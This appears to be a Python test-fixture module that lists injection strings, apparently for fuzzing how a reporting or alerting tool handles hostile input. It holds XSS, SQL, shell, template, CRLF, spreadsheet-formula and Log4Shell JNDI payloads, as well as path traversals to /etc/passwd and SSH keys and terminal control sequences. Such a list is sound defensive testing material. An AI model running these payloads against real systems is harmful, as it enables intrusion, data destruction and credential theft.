"""Verbatim terms that try to inject lines, formulas, markup, code or control characters."""

from __future__ import annotations

LINE_BREAKS = ("\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029")

FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=HYPERLINK(1)")

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>", "<a href='javascript:alert(1)'>x</a>", "<b>bold",
    "<!--", "]]>", "<?php system('id') ?>", "&lt;script&gt;", "javascript:alert(1)",
    "[x](javascript:alert(1))", "![x](http://evil.example.org)", "`id`", "*bold* _it_ ~no~",
    "<!channel>", "<!here>", "<@U123>", "@everyone", "@here", "<http://evil.example.org|click>",
    "http://evil.example.org/", "https://evil.example.org/?q={ref}",
)  # fmt: skip

CODE = (
    "$(id)", "${jndi:ldap://evil.example.org/a}", "; rm -rf /", "| cat /etc/passwd", "&& reboot",
    "{{ . }}", "{{ template \"x\" }}", "{% include 'x' %}", "{{7*7}}", "#{7*7}", "${7*7}",
    "%s%s%s%n", "{0.__class__}", "{ref}", "{secret}", "%{x}", "'; DROP TABLE alerts; --",
    "' OR 1=1 --", "\\", "\\n", "\\u000a", '"', '","event":"report.closed', '"}]', "'", "]", "}",
    "../../etc/passwd", "file:///etc/passwd", "!!python/object:os.system", "__import__('os')",
    "<%= 7*7 %>", "`reboot`", "> /dev/null", "^C", "~/.ssh/id_rsa", "&amp;", "|",
    "a|b|c|1", "board|pager|1f0c|9",
)  # fmt: skip

CONTROL_CHARACTERS = (
    "\x00", "\x07bell", "\x08\x08\x08back", "\x1b[2Jwiped", "\x1b]0;title\x07", "\x1b[31mred",
    "\x9b31m", "\x7f", "\u202eesrever", "\u2066isolate\u2069", "\u200bzero", "\u200dwide",
    "\ufeffmark", "\ud7ff\ue000", "\U000e0041tag", "a" * 10_000, "\u0301" * 300, "Ａ\uff1c\uff1e",
    "🚑" * 50, " ", "", "\t\t\t",
)  # fmt: skip

TERMS = tuple(
    dict.fromkeys(
        (
            *(f"Rash{end}Bcc: all@example.org" for end in LINE_BREAKS),
            *(f"{end}{end}HTTP/1.1 200 OK" for end in LINE_BREAKS[:3]),
            *FORMULAS,
            *MARKUP,
            *CODE,
            *CONTROL_CHARACTERS,
        )
    )
)
